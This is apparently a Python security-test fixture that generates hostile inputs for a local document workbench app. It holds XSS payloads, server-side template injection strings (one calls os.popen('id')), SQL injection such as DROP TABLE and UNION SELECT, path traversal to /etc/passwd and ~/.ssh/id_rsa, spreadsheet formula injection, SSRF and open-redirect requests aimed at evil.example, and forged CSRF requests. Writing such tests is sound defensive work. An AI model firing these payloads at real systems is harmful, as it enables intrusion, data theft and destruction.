"""Hostile texts and requests, made here: none of them may run, read or change anything in the workbench.

A text runs where it sets ``window.ran`` or asks another host for something. A request is (what it tries, method, address,
headers, body).
"""

from __future__ import annotations

import itertools
from typing import NamedTuple

RUN = "window.ran=1"
ELSEWHERE = "http://evil.example"
HANDLERS = [
    ("img", "src=x", "onerror"),
    ("svg", "", "onload"),
    ("body", "", "onload"),
    ("input", "autofocus", "onfocus"),
    ("select", "autofocus", "onfocus"),
    ("textarea", "autofocus", "onfocus"),
    ("details", "open", "ontoggle"),
    ("video", "src=x", "onerror"),
    ("audio", "src=x", "onerror"),
    ("iframe", "src=about:blank", "onload"),
    ("object", "data=x", "onerror"),
    ("embed", "src=/", "onload"),
    ("marquee", "", "onstart"),
    ("style", "", "onload"),
    ("link", "rel=stylesheet href=/static/workbench.css", "onload"),
    ("script", "src=x", "onerror"),
    ("a", "tabindex=0 autofocus", "onfocusin"),
    ("div", "style=animation:x", "onanimationstart"),
    ("p", "", "onpointerenter"),
    ("math", "", "onclick"),
]
QUOTES = ['<{tag} {more} {on}="{run}">', "<{tag} {more} {on}='{run}'//", "<{tag}/{more}/{on}={run}>", '"><{tag} {more} {on}={run} x="']
CLOSED = [
    "<script>{run}</script>",
    "</script><script>{run}</script>",
    "<scr<script>ipt>{run}</scr</script>ipt>",
    "<SCRIPT>{run}</SCRIPT>",
    "<script\n>{run}</script\n>",
    "<script/x>{run}</script>",
    "<script>{run}//",
    "<svg><script>{run}</script></svg>",
    "<svg><script href='data:,{run}'/></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={run}&gt;">',
    "<!--><script>{run}</script-->",
    "--><script>{run}</script><!--",
    "]]><script>{run}</script><![CDATA[",
    "</title><script>{run}</script>",
    "</textarea><script>{run}</script>",
    "</style><script>{run}</script>",
    "</noscript><script>{run}</script>",
    "</template><script>{run}</script>",
    '<noscript><p title="</noscript><img src=x onerror={run}>">',
    "</bdi></p></article><script>{run}</script>",
    "</option></select><script>{run}</script>",
    "<xmp><script>{run}</script></xmp>",
    "<plaintext><script>{run}</script>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<iframe src='javascript:parent.{run}'></iframe>",
    "<object data='javascript:{run}'></object>",
    "<embed src='javascript:{run}'>",
    "<a href='javascript:{run}' id=card-e1>x</a>",
    "<form action='javascript:{run}'><button autofocus>x</button></form>",
    "<form action='http://evil.example/'><input name=token></form>",
    "<button form=x formaction='javascript:{run}'>x</button>",
    "<base href='http://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'none'\">",
    "<link rel=stylesheet href='http://evil.example/x.css'>",
    "<link rel=prefetch href='http://evil.example/x'>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<style>*{background:url(http://evil.example/x)}</style>",
    "<img src='http://evil.example/x.png'>",
    "<img srcset='http://evil.example/x.png 1x'>",
    "<video poster='http://evil.example/x.png'></video>",
    "<div style='background:url(http://evil.example/x)'>x</div>",
    "<svg><use href='http://evil.example/x.svg#a'/></svg>",
    "<svg><image href='http://evil.example/x.png'/></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><foreignObject><script>{run}</script></foreignObject></svg>",
    "<table background='http://evil.example/x'>",
    "<input type=image src='http://evil.example/x'>",
    "<dialog open onclose={run}>x</dialog>",
    "<custom-element is=x onclick={run}>",
    "<img name=getElementById><form id=desk><input name=dataset></form>",
    "<a id=cards></a><a id=sheet></a><a id=live></a>",
    "&lt;script&gt;{run}&lt;/script&gt;",
    "&#60;script&#62;{run}&#60;/script&#62;",
    "&amp;lt;script&amp;gt;{run}",
    "%3Cscript%3E{run}%3C/script%3E",
    "\\u003cscript\\u003e{run}\\u003c/script\\u003e",
    "＜script＞{run}＜/script＞",
    "<ſcript>{run}</ſcript>",
    "<script\u2028>{run}</script>",
    "<\u200bscript>{run}</script>",
    "+ADw-script+AD4-{run}+ADw-/script+AD4-",
]
BREAKING = [
    '" onmouseover={run} x="',
    "' onmouseover={run} x='",
    "` onmouseover={run} x=`",
    '" autofocus onfocus="{run}',
    "x onfocus={run} autofocus",
    '"/><script>{run}</script>',
    "'/><script>{run}</script>",
    '\\"><script>{run}</script>',
    '"]});{run};//',
    "';{run};//",
    '";{run};//',
    "*/{run}/*",
    "\n{run}\n//",
    "${{run}}",
    "`${{run}}`",
    'e1 e2" data-f="s1',
    "card-e1",
    "__proto__",
    "constructor",
    "#card-e1",
    "javascript:{run}",
    "JaVaScRiPt:{run}",
    "java\tscript:{run}",
    "java\nscript:{run}",
    "&#106;avascript:{run}",
    "\x01javascript:{run}",
    "data:text/html,<script>{run}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=",
    "vbscript:{run}",
    "//evil.example/x",
    'http://evil.example/"onclick="{run}',
    "[x](javascript:{run})",
    "![x](http://evil.example/x.png)",
    "<http://evil.example/>",
    "[x]: javascript:{run}",
    "```html\n<script>{run}</script>\n```",
]
TEMPLATES = [
    "{{ 7*7 }}",
    "{{ 9999991*9999991 }}",
    "{% for x in range(9) %}ran{% endfor %}",
    "{{ request.app.state.desk.secret }}",
    "{{ self.__init__.__globals__ }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ config.items() }}",
    "{% include '/etc/passwd' %}",
    "{% extends '../app.py' %}",
    "{# comment #}hidden",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "<?php echo 7*7; ?>",
    "<!--#include file='/etc/passwd'-->",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    "%(secret)s {secret} %s %n",
]
DATABASE = [
    "' OR '1'='1",
    "'; DROP TABLE documents; --",
    '"; DELETE FROM corrections; --',
    "1) UNION SELECT text FROM documents --",
    "x' UNION SELECT sql FROM sqlite_master --",
    "%' ESCAPE '",
    "\\'; SELECT pg_sleep(9); --",
    "$$; DROP TABLE events; $$",
    "x'||(SELECT text FROM documents)||'",
    "documents:*",
]
SIGNS = [
    "\u202ereversed\u202c",
    "\u2066isolated",
    "left\u202d over",
    "NUL\0here",
    "bell\x07 escape\x1b[31m",
    "a\u0300" * 200,
    "\ufeffmark",
    "\u2028line\u2029paragraph",
    "🏳️‍🌈👩‍👩‍👧‍👦",
    "\U000e0041tag\U000e007f",
    "\ufdd0noncharacter\uffff",
    "ﷺ" * 100,
    "very" * 500,
    "\r\nSet-Cookie: x=1",
    "\r\n\r\n<script>window.ran=1</script>",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "+1+1",
    "-1+1",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "file:///etc/passwd",
    "C:\\boot.ini",
    "con.txt",
    "~/.ssh/id_rsa",
    "x#e1",
    "#",
    "?id=1&show=",
    "a b+c%20d%2e%2e",
]


def texts() -> list[str]:
    """Return the texts, each once."""
    made = [shape.format(tag=tag, more=more, on=on, run=RUN) for (tag, more, on), shape in itertools.product(HANDLERS, QUOTES)]
    made += [text.replace("{run}", RUN) for text in (*CLOSED, *BREAKING)]
    return list(dict.fromkeys([*made, *TEMPLATES, *DATABASE, *SIGNS]))


class Hostile(NamedTuple):
    """A request that tries something."""

    tries: str
    method: str
    path: str
    headers: dict[str, str]
    body: bytes = b""


FORM = {"content-type": "application/x-www-form-urlencoded"}
CHANGES = [
    ("/correct", b"id=oman.txt%23e1&action=reject&seen=1"),
    ("/edit", b"id=oman.txt%23e1&seen=1&actors=USA"),
    ("/new", b"id=oman.txt&layer=events&seen=1&event_type=AID&actors=USA&evidence=0-5"),
    ("/undo", b"number=1"),
    ("/name", b"name=Mallory&next=/"),
    ("/add/text", b"text=planted"),
    ("/add/address", b"address=http://169.254.169.254/latest/meta-data"),
    ("/split", b"id=oman.txt"),
    ("/jobs/stop", b"job=1"),
]
FILES = ["/etc/passwd", "../app.py", "../templates/base.html", "..%2fapp.py", "%2e%2e/app.py", "....//app.py", "..%5capp.py", "%00"]
FILES += ["//etc/passwd", "..;/app.py", "%252e%252e%252fapp.py", "file:///etc/passwd", ".", "..", "CON", "workbench.css/../../app.py"]
FILES += ["workbench.css%00.js"]
HOSTS = ["evil.example", "evil.example:8000", "127.0.0.1.evil.example", "localhost.evil.example:8000", "127.0.0.1@evil.example"]
HOSTS += ["10.0.0.7:8000", "[::ffff:7f00:1]:8000", "0.0.0.0:8000", "2130706433:8000", "0x7f.1", "127.1", "", "127.0.0.1:99999"]
HOSTS += ["127.0.0.1:8000, evil.example", "127.0.0.1:x", "evil.example#127.0.0.1"]
ORIGINS = ["http://evil.example", "null", "https://127.0.0.1.evil.example", "http://127.0.0.1:9999", "http://localhost", "file://"]
ORIGINS += ["chrome-extension://x", "http://127.0.0.1:8000.evil.example"]
ASKED = ["?publisher=' OR 1=1--", "?actor='; DROP TABLE events;--", "?since=2018' OR 1", "facts?layer=statements&text=%25' OR 1=1"]
ASKED += ["facts?layer=events&actor=' UNION SELECT 1--"]
NUMBERS = ["/?page=-1", "/?page=99999999999999999999", "/runs/-1", "/runs/99999999999999999999", "/?page=0x1"]
NUMBERS += ["/new?id=oman.txt&start=-5&end=99999999999", "/checking?page=-7", "/facts?layer=reasons&page=99999999999999999999"]
LIES = {"x-forwarded-host": "evil.example", "x-original-url": "/undo", "x-http-method-override": "DELETE", "x-fragment": "<script>"}


def requests(host: str) -> list[Hostile]:
    """Return the requests, for a workbench at a host."""
    own = {"origin": f"http://{host}"}
    sent = {**FORM, **own}
    cookie = {"cookie": "dragoman_8000_session=x.y"}
    made = [Hostile("no token of the form", "POST", path, sent, body) for path, body in CHANGES]
    made += [Hostile("a made-up token", "POST", path, sent, body + b"&token=" + b"0" * 64) for path, body in CHANGES]
    made += [Hostile("a made-up session", "POST", path, {**sent, **cookie}, body + b"&token=z") for path, body in CHANGES]
    made += [Hostile("a change by an address", "GET", f"{path}?{body.decode()}", {}) for path, body in CHANGES]
    made += [Hostile(f"from {origin}", "POST", path, {**FORM, "origin": origin}, body) for origin in ORIGINS for path, body in CHANGES[:2]]
    path, body = CHANGES[0]
    made += [Hostile(site, "POST", path, {**sent, "sec-fetch-site": site}, body) for site in ("cross-site", "same-site", "none")]
    made += [Hostile(f"as {name}", "GET", "/", {"host": name}) for name in HOSTS]
    made += [Hostile(f"the file {name}", "GET", f"/static/{name}", {}) for name in FILES]
    made += [Hostile(f"the document {name}", "GET", f"/reading?id={name}", {}) for name in FILES]
    made += [Hostile(f"an export of {name}", "GET", f"/export/reading?id={name}", {}) for name in FILES[:6]]
    made += [Hostile(f"by {method}", method, "/", own) for method in ("PUT", "DELETE", "PATCH", "TRACE", "OPTIONS", "CONNECT", "X")]
    made += [Hostile("SQL", "GET", f"/{where}", {}) for where in ASKED]
    made += [Hostile("a number that is none", "GET", where, {}) for where in NUMBERS]
    away = ("//evil.example", "https://evil.example", "/\\evil.example")
    made += [Hostile("an open redirect", "GET", f"/enter?token=x&next={where}", {}) for where in away]
    parts = {**own, "content-type": "multipart/form-data"}
    return [
        *made,
        Hostile("a large form", "POST", "/add/text", sent, b"text=" + b"x" * 1_100_000),
        Hostile("a length that lies", "POST", "/name", {**sent, "content-length": "99999999999"}),
        Hostile("many fields", "POST", "/name", sent, b"&".join(b"a%d=1" % i for i in range(500))),
        Hostile("JSON for a form", "POST", "/correct", {**own, "content-type": "application/json"}, b'{"id": "oman.txt#e1"}'),
        Hostile("XML for a form", "POST", "/correct", {**own, "content-type": "text/xml"}, b"<x/>"),
        Hostile("a broken part", "POST", "/add/files", {**own, "content-type": "multipart/form-data; boundary=x"}, b"--y\r\n"),
        Hostile("no boundary", "POST", "/add/files", parts, b"--y\r\n"),
        Hostile("headers that are not ours", "GET", "/", LIES),
    ]
